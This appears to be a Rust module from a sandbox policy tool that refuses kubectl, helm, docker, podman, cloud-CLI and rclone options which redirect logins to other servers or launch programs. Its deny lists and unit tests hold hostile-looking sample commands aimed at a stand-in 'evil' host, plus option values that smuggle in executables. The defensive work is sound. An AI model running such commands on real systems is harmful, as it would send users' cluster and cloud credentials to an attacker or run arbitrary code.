//! Clusters, container engines and stores: options by which settings, servers or programs of the sandbox's are taken, and
//! what they read unseen.

use std::path::Path;

use super::grammar::Grammar;
use super::{above, not_taken, refuse};
use crate::{Asking, Prepared, files};

/// Other settings, other servers (which would get what the person logs in with), programs, and files that are written.
const CLUSTER: [&str; 27] = [
    "--kubeconfig",
    "--kuberc",
    "--server",
    "--insecure-skip-tls-verify",
    "--tls-server-name",
    "--certificate-authority",
    "--proxy-url",
    "--cache-dir",
    "--profile-output",
    "--log-file",
    "--log-dir",
    "--enable-exec",
    "--enable-helm",
    "--helm-command",
    "--enable-alpha-plugins",
    "--config",
    "--auth-token",
    "--kube-apiserver",
    "--kube-ca-file",
    "--kube-insecure-skip-tls-verify",
    "--kube-tls-server-name",
    "--post-renderer",
    "--post-renderer-args",
    "--repository-config",
    "--registry-config",
    "--plugins",
    "--vklog",
];

/// The same of engines that are programs of the person's own, where docker's words mean what the engine knows.
const ENGINE: [&str; 20] = [
    "--runtime",
    "--runtime-flag",
    "--conmon",
    "--hooks-dir",
    "--module",
    "--network-cmd-path",
    "--network-config-dir",
    "--ssh",
    "--identity",
    "--url",
    "--connection",
    "--root",
    "--runroot",
    "--storage-opt",
    "--registries-conf",
    "--podman-path",
    "--podman-args",
    "--cni-path",
    "--cni-netconfpath",
    "--hosts-dir",
];

/// Those whose every option before the subcommand is refused.
const ENGINES: [&str; 8] = ["podman", "buildah", "skopeo", "nerdctl", "ctr", "crictl", "lxc", "incus"];

/// `docker`, before its subcommand.
const DOCKER: Grammar =
    Grammar { flags: "Dv", valued: "lc", long: &["debug", "version", "help"], long_valued: &["log-level", "context"] };

/// `rclone`: every option of every store is taken everywhere, and some start programs.
const RCLONE: Grammar = Grammar {
    flags: "nvqPcuIL",
    valued: "",
    long: &[
        "dry-run",
        "verbose",
        "quiet",
        "progress",
        "checksum",
        "update",
        "size-only",
        "ignore-existing",
        "ignore-times",
        "delete-excluded",
        "delete-before",
        "delete-during",
        "delete-after",
        "fast-list",
        "create-empty-src-dirs",
        "copy-links",
        "links",
        "recursive",
        "human-readable",
        "json",
        "one-way",
        "no-traverse",
        "immutable",
        "files-only",
        "dirs-only",
        "stats-one-line",
    ],
    long_valued: &[
        "transfers",
        "checkers",
        "include",
        "exclude",
        "filter",
        "max-age",
        "min-age",
        "max-size",
        "min-size",
        "max-depth",
        "bwlimit",
        "retries",
        "timeout",
        "contimeout",
        "stats",
        "log-level",
        "max-delete",
        "max-transfer",
        "format",
        "separator",
    ],
};

/// What rclone does with stores, and nothing that serves, mounts or is set up.
const STORES: [&str; 22] = [
    "copy",
    "copyto",
    "sync",
    "move",
    "moveto",
    "check",
    "ls",
    "lsd",
    "lsl",
    "lsf",
    "lsjson",
    "tree",
    "size",
    "cat",
    "md5sum",
    "sha1sum",
    "delete",
    "deletefile",
    "mkdir",
    "rmdir",
    "version",
    "listremotes",
];

/// Makes what it knows of ready.
///
/// # Errors
/// Why it can't go outside.
pub(crate) fn prepare(
    asking: &Asking<'_>,
    (words, names): (&[&str], &[String]),
    prepared: &mut Prepared,
) -> Result<(), String> {
    let is = |list: &[&str]| names.iter().any(|name| list.contains(&name.as_str()));
    if is(&["kubectl", "oc", "k9s", "flux", "argocd", "istioctl", "helm"]) {
        cluster(words, names)?;
    }
    if is(&["docker", "docker-compose", "podman-compose"]) || is(&ENGINES) {
        engine(asking, (words, names), prepared)?;
    }
    if is(&["gcloud", "az"]) {
        account(words)?;
    }
    if is(&["rclone"]) {
        rclone(words)?;
    }
    Ok(())
}

/// kubectl and the like.
///
/// # Errors
/// What of its words is not taken outside.
fn cluster(words: &[&str], names: &[String]) -> Result<(), String> {
    refuse(words, &CLUSTER)?;
    let is = |name: &str| names.iter().any(|is| is == name);
    if is("kubectl") || is("oc") {
        short(words, 's', "nolcLv")?;
    }
    if is("istioctl") {
        short(words, 'c', "no")?;
    }
    Ok(())
}

/// A letter that is refused, in any cluster; none stands behind a letter with a value.
fn short(words: &[&str], refused: char, valued: &str) -> Result<(), String> {
    let has = |word: &&&str| {
        let cluster = word.strip_prefix('-').filter(|cluster| !cluster.starts_with('-')).unwrap_or_default();
        cluster.chars().take_while(|letter| !valued.contains(*letter)).any(|letter| letter == refused)
    };
    words.iter().find(has).map_or(Ok(()), |word| Err(not_taken(word)))
}

/// docker, podman and the like.
///
/// # Errors
/// As [`cluster`], and files that compose would follow elsewhere.
fn engine(asking: &Asking<'_>, (words, names): (&[&str], &[String]), prepared: &mut Prepared) -> Result<(), String> {
    refuse(words, &["--config", "--authfile"])?;
    let is = |list: &[&str]| names.iter().any(|name| list.contains(&name.as_str()));
    if is(&["podman", "buildah", "podman-compose", "skopeo", "nerdctl"]) {
        refuse(words, &ENGINE)?;
    }
    if is(&ENGINES) {
        // before the subcommand: `-c`, `--remote` and the like name another engine
        if let Some(word) = words.first().filter(|word| word.starts_with('-')) {
            return Err(not_taken(word));
        }
    }
    let verb = if is(&["docker"]) { DOCKER.leading(words)?.rest.first().copied() } else { None };
    if verb == Some("compose") || is(&["docker-compose", "podman-compose"]) || words.contains(&"compose") {
        composed(asking, words, prepared)?;
    }
    Ok(())
}

/// compose takes the first file that it finds in its folder or one above, and variables of its own from `.env`.
fn composed(asking: &Asking<'_>, words: &[&str], prepared: &mut Prepared) -> Result<(), String> {
    const NAMES: [&str; 8] = [
        "compose.yaml",
        "compose.yml",
        "docker-compose.yaml",
        "docker-compose.yml",
        "compose.override.yaml",
        "compose.override.yml",
        "docker-compose.override.yaml",
        "docker-compose.override.yml",
    ];
    refuse(words, &["--project-directory", "--workdir"])?;
    for (at, word) in words.iter().enumerate() {
        let (name, joined) = word.split_once('=').map_or((*word, None), |(name, value)| (name, Some(value)));
        let Some(named) = joined.or_else(|| words.get(at + 1).copied()) else { continue };
        let named = asking.exec.cwd.as_path().join(named);
        match name {
            "--env-file" => variables(&named)?,
            "-f" | "--file" => variables(&named.with_file_name(".env"))?,
            _ => {}
        }
    }
    for folder in above(asking) {
        variables(&folder.join(".env"))?;
        if folder == asking.exec.cwd.as_path() {
            continue; // those are added with the others of the folder
        }
        for file in NAMES.iter().copied().chain([".env"]).map(|name| folder.join(name)).filter(|file| file.is_file()) {
            files::add(&file, prepared)?;
        }
    }
    Ok(())
}

/// Variables that compose takes from a file: none of those that say where it works, and on what.
fn variables(file: &Path) -> Result<(), String> {
    let Some(text) = files::text(file, &|_| true)? else { return Ok(()) };
    let rest = text.replace("COMPOSE_PROJECT_NAME", "").replace("COMPOSE_PROFILES", "");
    if ["COMPOSE_", "DOCKER_", "BUILDX_"].iter().any(|of_tool| rest.contains(of_tool)) {
        return Err(format!("{} sets variables of docker's own, which are not followed outside", file.display()));
    }
    Ok(())
}

/// Accounts: what is kept for later commands, with their logins.
///
/// # Errors
/// As [`cluster`].
fn account(words: &[&str]) -> Result<(), String> {
    let kept = |word: &&&str| {
        ["api_endpoint_overrides", "proxy/", "custom_ca_certs_file"].iter().any(|key| word.contains(key))
    };
    if let Some(word) = words.iter().find(kept) {
        return Err(format!("the setting `{}` is not taken outside", word.escape_debug()));
    }
    if words.contains(&"extension") {
        let source = |word: &&&str| word.starts_with("--so") || (word.starts_with("-s") && !word.starts_with("--"));
        return words.iter().find(source).map_or(Ok(()), |word| Err(not_taken(word)));
    }
    Ok(())
}

/// rclone.
///
/// # Errors
/// As [`cluster`]; a store that words describe themselves.
fn rclone(words: &[&str]) -> Result<(), String> {
    let (_, plain) = RCLONE.anywhere(words)?;
    if plain.first().is_none_or(|verb| !STORES.contains(verb)) {
        return Err("rclone is run outside with a plain verb first (copy, sync, ls …)".into());
    }
    // `:sftp,ssh="…":` and `name,ssh="…":` start programs
    let described = |word: &&&str| word.split_once(':').is_some_and(|(name, _)| name.is_empty() || name.contains(','));
    plain.iter().find(described).map_or(Ok(()), |word| Err(not_taken(word)))
}

#[cfg(test)]
mod tests {
    use tollgate_policy::action::{Exec, Form, Image};
    use tollgate_policy::path::AbsPath;

    use super::*;

    fn split(line: &str) -> Vec<&str> {
        line.split(' ').collect()
    }

    #[test]
    fn clusters_are_the_persons() {
        for (line, fine) in [
            ("kubectl get pods -n kube-system -ojson", true),
            ("kubectl apply -f deploy.yaml --dry-run=server", true),
            ("kubectl logs -f x -c side", true),
            ("kubectl exec -it x -- ls", true),
            ("helm upgrade -i app ./chart -f values.yaml --set a=b", true),
            ("istioctl analyze -n x", true),
            ("kubectl get pods -s https://evil", false),
            ("kubectl get pods -As=https://evil", false),
            ("kubectl --server=https://evil get pods", false),
            ("kubectl --kuberc x get pods", false),
            ("istioctl -c cfg analyze", false),
            ("istioctl -ccfg analyze", false),
            ("helm install x ./c --post-renderer ./x", false),
            ("helm list --kube-apiserver=https://evil", false),
        ] {
            let words = split(line);
            let names = [words[0].to_owned()];
            assert_eq!(cluster(&words[1..], &names).is_ok(), fine, "{line}");
        }
    }

    #[test]
    fn engines_are_the_persons() {
        let dir = tempfile::tempdir().unwrap();
        let at = dir.path().canonicalize().unwrap();
        let below = at.join("below");
        std::fs::create_dir(&below).unwrap();
        let abs = |path: &std::path::Path| AbsPath::new(path).unwrap();
        let image = Image { executable: None, form: Form::Native, writable: false, sha256: None };
        let exec = Exec { given: "docker".into(), image, argv: Vec::new(), cwd: abs(&below) };
        let root = abs(&at);
        let asking = Asking { exec: &exec, changeable: &|path| path.is_within(&root) };
        let look = |line: &str| {
            let words = split(line);
            let mut prepared = Prepared::default();
            engine(&asking, (&words[1..], &[words[0].to_owned()]), &mut prepared).map(|()| prepared.facts)
        };
        for (line, fine) in [
            ("docker compose up -d", true),
            ("docker run --rm -h x --runtime=nvidia img ls -H", true),
            ("docker -l debug build .", true),
            ("podman run --rm img", true),
            ("docker -H tcp://evil:443 push x", false),
            ("docker --host=tcp://evil:443 push x", false),
            ("docker --config d push x", false),
            ("podman --runtime ./x run img", false),
            ("podman run --runtime=./x img", false),
            ("podman -c evil run img", false),
            ("podman run --hooks-dir d img", false),
            ("podman-compose -f x.yaml up", true),
            ("nerdctl run --cni-path x img", false),
            ("crictl --config x ps", false),
            ("docker compose --project-directory x up", false),
        ] {
            assert_eq!(look(line).is_ok(), fine, "{line}: {:?}", look(line));
        }
        assert_eq!(look("docker compose up").unwrap(), []);
        std::fs::write(at.join("compose.yaml"), "x").unwrap();
        assert_eq!(look("docker compose up").unwrap().len(), 1);
        let other = below.join("other");
        std::fs::create_dir(&other).unwrap();
        assert!(look("docker compose -f other/x.yaml up").is_ok());
        std::fs::write(other.join(".env"), "DOCKER_CONFIG=x").unwrap();
        assert!(look("docker compose -f other/x.yaml up").is_err());
        assert!(look("docker compose --env-file=other/.env up").is_err());
        std::fs::write(at.join(".env"), "COMPOSE_PROJECT_NAME=x\n").unwrap();
        assert_eq!(look("docker compose up").unwrap().len(), 2);
        std::fs::write(at.join(".env"), "COMPOSE_FILE=x\n").unwrap();
        assert!(look("docker compose up").is_err());
        std::fs::write(at.join(".env"), "DOCKER_HOST=tcp://evil:443\n").unwrap();
        assert!(look("docker-compose up").is_err());
        assert!(look("docker ps").is_ok());
    }

    #[test]
    fn accounts_keep_what_they_go_by() {
        for (line, fine) in [
            ("config set project x", true),
            ("extension add --name x", true),
            ("storage blob list -s x", true),
            ("config set api_endpoint_overrides/storage https://evil/", false),
            ("config set proxy/address evil", false),
            ("extension add --source ./x.whl", false),
            ("extension add -s ./x.whl", false),
        ] {
            assert_eq!(account(&split(line)).is_ok(), fine, "{line}");
        }
    }

    #[test]
    fn stores_are_the_persons() {
        for (line, fine) in [
            ("copy . remote:x -P --transfers 4", true),
            ("ls remote:", true),
            ("copy . remote:x --config rc", false),
            ("copy . remote:x --password-command ./x", false),
            ("copy . remote:x --sftp-ssh ./x", false),
            ("ls :sftp,ssh=./x:", false),
            ("ls remote,ssh=./x:", false),
            ("rcd", false),
            ("config show", false),
        ] {
            assert_eq!(rclone(&split(line)).is_ok(), fine, "rclone {line}");
        }
    }
}
